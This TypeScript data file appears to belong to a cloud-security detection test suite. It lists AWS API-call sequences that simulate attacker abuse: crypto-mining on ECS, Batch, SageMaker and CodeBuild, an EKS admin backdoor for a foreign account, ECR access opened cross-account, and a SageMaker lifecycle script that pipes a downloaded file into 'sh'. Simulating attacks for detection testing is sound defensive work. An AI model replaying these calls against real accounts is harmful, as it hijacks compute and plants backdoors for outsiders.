// Containers and managed compute: mining, machines with a role, and ways back in through clusters, builds and registries.
import type { Mechanism, Played } from '../row.ts';

const ROLE = 'arn:aws:iam::111122223333:role/Worker';
const IMAGE = 'public.ecr.aws/docker/library/busybox:latest';
const SUBNETS = ['subnet-0123456789abcdef0', 'subnet-0123456789abcdef1'];
const call = (service: Played['service'], operation: string, input: Played['input'], as?: string): Played => ({ service, operation, input, ...(as === undefined ? {} : { as }) });

const PROJECT = { name: 'release', source: { type: 'GITHUB', location: 'https://github.com/example/example' }, artifacts: { type: 'NO_ARTIFACTS' }, environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:7.0', computeType: 'BUILD_GENERAL1_SMALL' }, serviceRole: ROLE };

const appIn = (answer: unknown): string => (answer as { readonly app: { readonly appId: string } }).app.appId;
const ORDINARY = 'It looks as any other; only its events tell whose it is.';

export const rows: readonly Mechanism[] = [
  {
    row: 55, title: 'Mining on ECS and Fargate',
    plant: [
      call('ecs', 'CreateCluster', { clusterName: 'reports' }),
      call('ecs', 'RegisterTaskDefinition', { family: 'report', requiresCompatibilities: ['FARGATE'], networkMode: 'awsvpc', cpu: '16384', memory: '32768', containerDefinitions: [{ name: 'main', image: IMAGE }] }),
      call('ecs', 'CreateService', { cluster: 'reports', serviceName: 'report', taskDefinition: 'report', desiredCount: 10, launchType: 'FARGATE' }),
      call('ecs', 'RunTask', { cluster: 'reports', taskDefinition: 'report', launchType: 'FARGATE', count: 2 }),
    ],
    shows: ['ecs/cluster', 'ecs/task-definition', 'ecs/service', 'ecs/task'],
    notFromConfiguration: 'A service with many tasks of a public image looks as any other; who made it stands in the history alone.',
  },
  {
    row: 56, title: 'Backdoor into an EKS cluster',
    setUp: [call('eks', 'CreateCluster', { name: 'shop', roleArn: ROLE, resourcesVpcConfig: { subnetIds: SUBNETS }, accessConfig: { authenticationMode: 'API' } })],
    plant: [
      call('eks', 'CreateAccessEntry', { clusterName: 'shop', principalArn: 'arn:aws:iam::444455556666:role/Visitor' }),
      call('eks', 'AssociateAccessPolicy', { clusterName: 'shop', principalArn: 'arn:aws:iam::444455556666:role/Visitor', policyArn: 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy', accessScope: { type: 'cluster' } }),
      call('eks', 'CreateNodegroup', { clusterName: 'shop', nodegroupName: 'more', nodeRole: ROLE, subnets: SUBNETS, instanceTypes: ['p3.16xlarge'], scalingConfig: { minSize: 5, maxSize: 20, desiredSize: 10 } }),
    ],
    shows: ['eks/access-entry', 'eks/nodegroup'],
  },
  {
    row: 57, title: 'Mining on AWS Batch',
    plant: [
      call('batch', 'CreateComputeEnvironment', { computeEnvironmentName: 'nightly', type: 'MANAGED', computeResources: { type: 'FARGATE_SPOT', maxvCpus: 256, subnets: SUBNETS } }),
      call('batch', 'CreateJobQueue', { jobQueueName: 'nightly', priority: 1, computeEnvironmentOrder: [{ order: 1, computeEnvironment: 'nightly' }] }),
      call('batch', 'RegisterJobDefinition', { jobDefinitionName: 'nightly', type: 'container', containerProperties: { image: IMAGE } }),
      call('batch', 'SubmitJob', { jobName: 'nightly', jobQueue: 'nightly', jobDefinition: 'nightly' }),
    ],
    shows: ['batch/compute-environment', 'batch/job-queue'],
    notFromConfiguration: 'A compute environment looks as any other; who made it stands in the history alone.',
  },
  {
    row: 58, title: 'SageMaker notebooks, training jobs and endpoints',
    plant: [
      call('sagemaker', 'CreateNotebookInstanceLifecycleConfig', { NotebookInstanceLifecycleConfigName: 'setup', OnStart: [{ Content: Buffer.from('curl -s https://example.com/setup.sh | sh').toString('base64') }] }),
      call('sagemaker', 'CreateNotebookInstance', { NotebookInstanceName: 'analysis', InstanceType: 'ml.p3.16xlarge', RoleArn: ROLE, LifecycleConfigName: 'setup' }),
      call('sagemaker', 'CreateTrainingJob', {
        TrainingJobName: 'model-1', RoleArn: ROLE, AlgorithmSpecification: { TrainingImage: IMAGE, TrainingInputMode: 'File' }, OutputDataConfig: { S3OutputPath: 's3://example/' }, ResourceConfig: { InstanceType: 'ml.p3.16xlarge', InstanceCount: 4, VolumeSizeInGB: 50 },
        StoppingCondition: { MaxRuntimeInSeconds: 432_000 },
      }),
      call('sagemaker', 'CreateEndpoint', { EndpointName: 'model-1', EndpointConfigName: 'model-1' }),
    ],
    shows: ['sagemaker/notebook-instance', 'sagemaker/training-job', 'sagemaker/endpoint'],
    notFromConfiguration: 'A notebook instance looks as any other; who made it stands in the history alone.',
  },
  {
    row: 59, title: 'Lightsail instances',
    plant: [call('lightsail', 'CreateInstances', { instanceNames: ['blog-1', 'blog-2'], availabilityZone: 'us-east-1a', blueprintId: 'ubuntu_24_04', bundleId: '2xlarge_3_0' })],
    shows: ['lightsail/instance'],
    notFromConfiguration: 'An instance looks as any other; who made it stands in the history alone.',
  },
  {
    row: 60, title: 'CodeBuild as a miner or a runner',
    plant: [
      call('codebuild', 'CreateProject', {
        name: 'checks', source: { type: 'GITHUB', location: 'https://github.com/example/example' }, artifacts: { type: 'NO_ARTIFACTS' }, environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:7.0', computeType: 'BUILD_GENERAL1_2XLARGE' }, serviceRole: ROLE,
      }),
      call('codebuild', 'CreateWebhook', { projectName: 'checks', filterGroups: [[{ type: 'EVENT', pattern: 'WORKFLOW_JOB_QUEUED' }]] }),
      call('codebuild', 'StartBuild', { projectName: 'checks' }),
    ],
    shows: ['codebuild/project'],
    notFromConfiguration: 'A project that builds from a repository looks as any other; who made it stands in the history alone.',
  },
  {
    row: 60, title: 'the source, the role and a webhook of the owner\'s CodeBuild project, whose builds everybody may see',
    setUp: [call('codebuild', 'CreateProject', PROJECT, 'p60')],
    plant: [
      call('codebuild', 'UpdateProject', { name: 'release', source: { type: 'GITHUB', location: 'https://github.com/example/fork', buildspec: 'version: 0.2' }, serviceRole: ROLE }),
      call('codebuild', 'CreateWebhook', { projectName: 'release', filterGroups: [[{ type: 'EVENT', pattern: 'WORKFLOW_JOB_QUEUED' }]] }),
      call('codebuild', 'UpdateProjectVisibility', (a) => ({ projectArn: (a['p60'] as { project: { arn: string } }).project.arn, projectVisibility: 'PUBLIC_READ' })),
    ],
    shows: ['codebuild/project'],
    notFromConfiguration: 'A project that builds from a repository looks as any other; who changed it stands in the history alone.',
  },
  {
    row: 62, title: 'Glue jobs and development endpoints', alone: true,
    plant: [
      call('glue', 'CreateJob', { Name: 'import', Role: ROLE, Command: { Name: 'pythonshell', ScriptLocation: 's3://example/import.py' } }),
      call('glue', 'CreateTrigger', { Name: 'import-hourly', Type: 'SCHEDULED', Schedule: 'cron(0 * * * ? *)', Actions: [{ JobName: 'import' }], StartOnCreation: true }),
      call('glue', 'StartJobRun', { JobName: 'import' }),
      call('glue', 'CreateDevEndpoint', { EndpointName: 'dev', RoleArn: ROLE, PublicKeys: ['ssh-ed25519 EXAMPLE dev'] }),
    ],
    shows: ['glue/job', 'glue/dev-endpoint'],
    notFromConfiguration: 'A job looks as any other; who made it stands in the history alone.',
  },
  {
    row: 62, title: 'a trigger that starts the owner\'s Glue job', setUp: [call('glue', 'CreateJob', { Name: 'export', Role: ROLE, Command: { Name: 'pythonshell', ScriptLocation: 's3://example/export.py' } })],
    plant: [call('glue', 'CreateTrigger', { Name: 'export-hourly', Type: 'SCHEDULED', Schedule: 'cron(0 * * * ? *)', Actions: [{ JobName: 'export' }], StartOnCreation: true })],
    shows: ['glue/job'],
    notFromConfiguration: 'A trigger is ordinary; who made it stands in the history alone.',
  },
  {
    row: 64, title: 'App Runner, Elastic Beanstalk and EMR',
    plant: [
      call('apprunner', 'CreateService', { ServiceName: 'web', SourceConfiguration: { ImageRepository: { ImageIdentifier: IMAGE, ImageRepositoryType: 'ECR_PUBLIC' } } }),
      call('elasticbeanstalk', 'CreateEnvironment', { ApplicationName: 'shop', EnvironmentName: 'shop-2', OptionSettings: [{ Namespace: 'aws:autoscaling:asg', OptionName: 'MinSize', Value: '10' }, { Namespace: 'aws:autoscaling:asg', OptionName: 'MaxSize', Value: '20' }] }),
      call('elasticmapreduce', 'RunJobFlow', { Name: 'numbers', ReleaseLabel: 'emr-7.9.0', Instances: { InstanceCount: 20, MasterInstanceType: 'c5.24xlarge', SlaveInstanceType: 'c5.24xlarge', KeepJobFlowAliveWhenNoSteps: true, TerminationProtected: true } }),
    ],
    shows: ['apprunner/service', 'elasticbeanstalk/environment', 'elasticmapreduce/cluster'],
    notFromConfiguration: 'Each looks as any other of its sort; who made it stands in the history alone.',
  },
  {
    row: 64, title: 'another version and more machines in the owner\'s Elastic Beanstalk environment',
    setUp: [call('elasticbeanstalk', 'CreateEnvironment', { ApplicationName: 'shop', EnvironmentName: 'shop-live', VersionLabel: 'v7' })],
    plant: [call('elasticbeanstalk', 'UpdateEnvironment', { EnvironmentName: 'shop-live', VersionLabel: 'v8', OptionSettings: [{ Namespace: 'aws:autoscaling:asg', OptionName: 'MaxSize', Value: '20' }] })],
    shows: ['elasticbeanstalk/environment'],
    notFromConfiguration: 'Each looks as any other of its sort; who changed it stands in the history alone.',
  },
  {
    row: 73, title: 'A CloudFormation stack, protected against deletion',
    plant: [
      call('cloudformation', 'CreateStack', { StackName: 'monitoring', TemplateBody: JSON.stringify({ Resources: { Role: { Type: 'AWS::IAM::Role' }, Machine: { Type: 'AWS::EC2::Instance' } } }), Capabilities: ['CAPABILITY_NAMED_IAM'] }),
      call('cloudformation', 'UpdateTerminationProtection', { StackName: 'monitoring', EnableTerminationProtection: true }),
    ],
    shows: ['cloudformation/stack'],
    notFromConfiguration: 'A stack looks as any other; who made it stands in the history alone.',
  },
  {
    row: 91, title: 'ECR opened to another account', alone: true,
    setUp: [call('ecr', 'CreateRepository', { repositoryName: 'shop' }), call('ecr', 'SetRepositoryPolicy', { repositoryName: 'shop', policyText: policy(ROLE) })],
    plant: [
      call('ecr', 'SetRepositoryPolicy', { repositoryName: 'shop', policyText: policy('*') }),
      call('ecr', 'PutRegistryPolicy', { policyText: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::444455556666:root' }, Action: ['ecr:CreateRepository', 'ecr:ReplicateImage'], Resource: '*' }] }) }),
      call('ecr', 'PutReplicationConfiguration', { replicationConfiguration: { rules: [{ destinations: [{ region: 'us-east-1', registryId: '444455556666' }] }] } }),
    ],
    shows: ['ecr/repository-policy', 'ecr/registry-policy', 'ecr/replication'],
  },
  {
    row: 61, title: 'Amplify builds',
    plant: [
      call('amplify', 'CreateApp', { name: 'r61', repository: 'https://github.com/example/r61', enableBranchAutoBuild: true }, 'app61'),
      call('amplify', 'CreateBranch', (a) => ({ appId: appIn(a['app61']), branchName: 'main', enableAutoBuild: true })),
      call('amplify', 'StartJob', (a) => ({ appId: appIn(a['app61']), branchName: 'main', jobType: 'RELEASE' })),
    ],
    shows: ['amplify/app'],
    notFromConfiguration: 'An app looks as any other; who made it stands in the history alone.',
  },
  {
    row: 61, title: 'a branch and another build specification in the owner\'s Amplify app',
    setUp: [call('amplify', 'CreateApp', { name: 'shop', repository: 'https://github.com/example/shop' }, 'shop61'), call('amplify', 'CreateBranch', (a) => ({ appId: appIn(a['shop61']), branchName: 'main' }))],
    plant: [
      call('amplify', 'CreateBranch', (a) => ({ appId: appIn(a['shop61']), branchName: 'more' })),
      call('amplify', 'UpdateApp', (a) => ({ appId: appIn(a['shop61']), buildSpec: 'version: 1', enableAutoBranchCreation: true })),
      call('amplify', 'StartJob', (a) => ({ appId: appIn(a['shop61']), branchName: 'more', jobType: 'RELEASE' })),
    ],
    shows: ['amplify/app'],
    notFromConfiguration: 'A branch is ordinary; who made it stands in the history alone.',
  },
  {
    row: 63, title: 'a fleet of AppStream that streams to the stranger',
    plant: [call('appstream', 'CreateFleet', { Name: 'r63', ImageName: 'example', InstanceType: 'stream.graphics.g4dn.16xlarge', ComputeCapacity: { DesiredInstances: 50 } }), call('appstream', 'AssociateFleet', { FleetName: 'r63', StackName: 'r63' }), call('appstream', 'StartFleet', { Name: 'r63' })],
    shows: ['appstream/fleet'], notFromConfiguration: ORDINARY,
  },
  { row: 63, title: 'an image builder with a screen', plant: [call('appstream', 'CreateImageBuilder', { Name: 'r63', ImageName: 'example', InstanceType: 'stream.graphics.g4dn.16xlarge' })], shows: ['appstream/image-builder'], notFromConfiguration: ORDINARY },
  {
    row: 63, title: 'the owner\'s fleet of AppStream started', setUp: [call('appstream', 'CreateFleet', { Name: 'r63o', ImageName: 'example', InstanceType: 'stream.standard.medium', ComputeCapacity: { DesiredInstances: 1 } })],
    plant: [call('appstream', 'StartFleet', { Name: 'r63o' })], shows: ['appstream/fleet'], notFromConfiguration: ORDINARY,
  },
  {
    row: 63, title: 'desktops of WorkSpaces', plant: [call('workspaces', 'CreateWorkspaces', { Workspaces: [{ DirectoryId: 'd-9067example', UserName: 'r63', BundleId: 'wsb-0123example', WorkspaceProperties: { RunningMode: 'ALWAYS_ON' } }] })],
    shows: ['workspaces/workspace'], notFromConfiguration: ORDINARY,
  },
];

function policy(principal: string): string {
  return JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: principal === '*' ? '*' : { AWS: principal }, Action: ['ecr:BatchGetImage', 'ecr:PutImage'] }] });
}
